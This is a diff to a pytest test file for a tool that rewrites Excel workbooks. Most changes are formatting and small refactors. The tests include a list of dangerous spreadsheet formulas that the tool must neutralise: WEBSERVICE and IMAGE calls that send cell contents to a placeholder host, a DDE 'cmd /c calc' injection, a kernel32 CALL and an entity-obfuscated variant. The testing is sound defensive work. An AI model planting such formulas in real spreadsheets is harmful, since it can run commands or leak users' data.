@@ -4,6 +4,7 @@ import hashlib
 import io
 import posixpath
 import re
+import xml.etree.ElementTree as ET
 import zipfile
 from dataclasses import dataclass, replace
 from pathlib import Path
@@ -139,7 +140,10 @@ def test_our_reader_reads_her_sheets_as_before_and_our_columns_to_the_right(writ
         again, width = theirs[sheet.name], len(sheet.cells.columns)
         assert again.cells.iloc[:, :width].equals(sheet.cells)
         assert again.types.iloc[:, :width].equals(sheet.types)
-        assert (again.facts.visibility, again.facts.filtered) == (sheet.facts.visibility, sheet.facts.filtered)
+        assert (again.facts.visibility, again.facts.filtered) == (
+            sheet.facts.visibility,
+            sheet.facts.filtered,
+        )
         assert again.facts.merged == sheet.facts.merged
         assert again.facts.hidden_rows == sheet.facts.hidden_rows
     ours = theirs[written.made.sheet].cells
@@ -164,8 +168,12 @@ def test_other_readers_read_it(written: Written) -> None:
             for name in old.sheet_names:
                 if old.get_sheet_by_name(name).to_python() != [] and name != written.made.sheet:
                     assert book.get_sheet_by_name(name).to_python() == old.get_sheet_by_name(name).to_python()
-    book = openpyxl.load_workbook(written.result)
-    old = openpyxl.load_workbook(written.source)
+    by_cells(written)
+
+
+def by_cells(written: Written) -> None:
+    book: Any = openpyxl.load_workbook(written.result)
+    old: Any = openpyxl.load_workbook(written.source)
     assert book.active.title == old.active.title
     page, before = book[written.made.sheet], old[written.made.sheet]
     for row in before.iter_rows():
@@ -182,7 +190,9 @@ def test_other_readers_read_it(written: Written) -> None:
 
 
 def test_each_problem_cell_has_a_comment_and_hers_stay(written: Written) -> None:
-    page, before = (openpyxl.load_workbook(path)[written.made.sheet] for path in (written.result, written.source))
+    page, before = (
+        openpyxl.load_workbook(path)[written.made.sheet] for path in (written.result, written.source)
+    )
     for row in before.iter_rows():
         for cell in row:
             if cell.comment:
@@ -196,7 +206,7 @@ def test_each_problem_cell_has_a_comment_and_hers_stay(written: Written) -> None
 
 
 def test_the_first_sheet_says_what_became_of_it(written: Written) -> None:
-    page = openpyxl.load_workbook(written.result).worksheets[0]
+    page: Any = openpyxl.load_workbook(written.result).worksheets[0]
     said = [str(cell.value) for row in page.iter_rows() for cell in row if cell.value is not None]
     assert {"Result", "20261126-101500-ab12cd", "What to do next"} <= set(said)
     assert page._charts
@@ -214,9 +224,7 @@ def test_elements_of_the_worksheet_are_in_the_order_of_the_format(written: Writt
     own = part_of(written.made.data, written.made.sheet)
     xml = zipfile.ZipFile(written.result).read(own).decode()
     bare = re.sub(r"<(?:x:)?sheetData>.*</(?:x:)?sheetData>", "<sheetData/>", xml, flags=re.DOTALL)
-    import xml.etree.ElementTree as trees
-
-    names = [child.tag.rpartition("}")[2] for child in trees.fromstring(bare)]
+    names = [child.tag.rpartition("}")[2] for child in ET.fromstring(bare)]
     known = [_ORDER.index(name) for name in names if name in _ORDER]
     assert known == sorted(known)
     single = [name for name in names if name != "conditionalFormatting"]
@@ -240,15 +248,15 @@ def test_macros_are_left_out_and_said(tmp_path: Path) -> None:
 
 LIVE = (
     'WEBSERVICE("http://example.invalid/"&amp;A2)',
-    '_xlfn.WEBSERVICE(A2)',
-    '_xlfn._xlws.PY(1,A2)',
+    "_xlfn.WEBSERVICE(A2)",
+    "_xlfn._xlws.PY(1,A2)",
     '_xlfn.IMAGE("http://example.invalid/"&amp;A2)',
     'HYPERLINK("http://example.invalid/?q="&amp;A2,"x")',
-    'hyperlink ( A2 )',
+    "hyperlink ( A2 )",
     'SUM(1,RTD("a",,"b"))',
     "cmd|'/c calc'!A0",
     'DDE("a","b","c")',
-    'WEB&#83;ERVICE(A2)',
+    "WEB&#83;ERVICE(A2)",
     'IF(TRUE,_xlfn.STOCKHISTORY("x",1))',
     'CALL("kernel32","Beep","JJJ",1,2)',
     'CUBEVALUE("a","b")',
@@ -266,7 +274,9 @@ QUIET = (
 
 @pytest.mark.parametrize("formula", LIVE)
 @pytest.mark.parametrize("elsewhere", [False, True])
-def test_a_formula_that_does_something_becomes_its_value(formula: str, elsewhere: bool, tmp_path: Path) -> None:
+def test_a_formula_that_does_something_becomes_its_value(
+    formula: str, elsewhere: bool, tmp_path: Path
+) -> None:
     written = write(with_formula(formula, elsewhere=elsewhere), tmp_path)
     assert written.left == ("LEFT_FORMULAS",)
     xml = everything(written.result)
@@ -302,7 +312,7 @@ def everything(path: Path) -> str:
 def test_what_is_shared_with_a_live_formula_goes_with_it(tmp_path: Path) -> None:
     shared = '<f t="shared" ref="D2:D4" si="0">WEBSERVICE(A2)</f><v>1</v>'
     cells = {"D2": shared, "D3": '<f t="shared" si="0"/><v>2</v>', "D4": '<f t="shared" si="0"></f><v>3</v>'}
-    made = by_xlsxwriter(lambda book, page: [page.write_number(name, 1) for name in cells] and None)
+    made = by_xlsxwriter(lambda _, page: [page.write_number(name, 1) for name in cells])
 
     def change(xml: str) -> str:
         for name, content in cells.items():
@@ -334,7 +344,10 @@ def with_link(made: Made) -> Made:
     }
     named = '<definedNames><definedName name="Far">[1]Other!$A$1</definedName></definedNames>'
     references = '</sheets><externalReferences><externalReference r:id="rId888"/></externalReferences>'
-    return replace(made, data=with_parts(made.data, more, workbook=lambda xml: xml.replace("</sheets>", references + named)))
+    return replace(
+        made,
+        data=with_parts(made.data, more, workbook=lambda xml: xml.replace("</sheets>", references + named)),
+    )
 
 
 def test_links_to_other_files_are_left_out_and_their_formulas_become_values(tmp_path: Path) -> None:
@@ -346,25 +359,38 @@ def test_links_to_other_files_are_left_out_and_their_formulas_become_values(tmp_
 
 
 def test_a_workbook_whose_first_sheet_has_our_name_keeps_it(tmp_path: Path) -> None:
-    made = by_openpyxl(lambda book, page: book.create_sheet("callsheet result"))
+    made = by_openpyxl(lambda book, _: book.create_sheet("callsheet result"))
     written = write(made, tmp_path)
-    assert openpyxl.load_workbook(written.result).sheetnames == ["callsheet result (2)", "Customers", "callsheet result"]
+    assert openpyxl.load_workbook(written.result).sheetnames == [
+        "callsheet result (2)",
+        "Customers",
+        "callsheet result",
+    ]
 
 
 STRANGE = {
-    "strict": dict(workbook=lambda xml: xml.replace("schemas.openxmlformats.org/spreadsheetml/2006/main", "purl.oclc.org/ooxml/spreadsheetml/main")),
+    "strict": dict(
+        workbook=lambda xml: xml.replace(
+            "schemas.openxmlformats.org/spreadsheetml/2006/main", "purl.oclc.org/ooxml/spreadsheetml/main"
+        )
+    ),
     "a comment among the rows": dict(sheet1=lambda xml: xml.replace("</row>", "<!-- </row> --></row>", 1)),
     "rows without numbers": dict(sheet1=lambda xml: re.sub(r'<row r="\d+"', "<row", xml)),
     "no sheet of that name": dict(workbook=lambda xml: xml.replace('name="Customers"', 'name="Other"')),
     "no formats": dict(styles=lambda xml: re.sub("<cellXfs.*?</cellXfs>", "", xml)),
     "an instruction": dict(sheet1=lambda xml: xml.replace("<sheetData>", "<sheetData><?x?>")),
-    "a live format": dict(sheet1=lambda xml: xml.replace("</sheetData>", '</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>')),
+    "a live format": dict(
+        sheet1=lambda xml: xml.replace(
+            "</sheetData>",
+            '</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>',
+        )
+    ),
 }
 
 
 @pytest.mark.parametrize("name", STRANGE)
 def test_what_is_not_plain_is_not_touched(name: str, tmp_path: Path) -> None:
-    made, bad = by_xlsxwriter(lambda book, page: None), tmp_path / "bad.xlsx"
+    made, bad = by_xlsxwriter(), tmp_path / "bad.xlsx"
     sheet = sheet_of_plain(made, tmp_path)
     bad.write_bytes(workbooks.rewritten(made.data, **STRANGE[name]))
     with pytest.raises(NotKeptError) as why:
@@ -395,7 +421,7 @@ RELATED = (
 
 @pytest.mark.parametrize(("part", "kind", "code"), RELATED)
 def test_what_nobody_can_carry_over_is_named(part: str, kind: str, code: str, tmp_path: Path) -> None:
-    made, bad = by_xlsxwriter(lambda book, page: None), tmp_path / "bad.xlsx"
+    made, bad = by_xlsxwriter(), tmp_path / "bad.xlsx"
     sheet = sheet_of_plain(made, tmp_path)
     with zipfile.ZipFile(io.BytesIO(made.data)) as archive:
         name = f"xl/{part}"
@@ -431,7 +457,11 @@ def test_a_result_is_not_written_into_a_result(tmp_path: Path) -> None:
     made = by_openpyxl()
     sheet = sheet_of_plain(made, tmp_path)
     with pytest.raises(NotKeptError, match="OWN_RESULT"):
-        write_own(tmp_path / "r.xlsx", replace(sheet, header=("a", "callsheet status", "b")), own_of(tmp_path / "good.xlsx"))
+        write_own(
+            tmp_path / "r.xlsx",
+            replace(sheet, header=("a", "callsheet status", "b")),
+            own_of(tmp_path / "good.xlsx"),
+        )
 
 
 def test_every_code_of_the_parser_has_a_sentence() -> None:
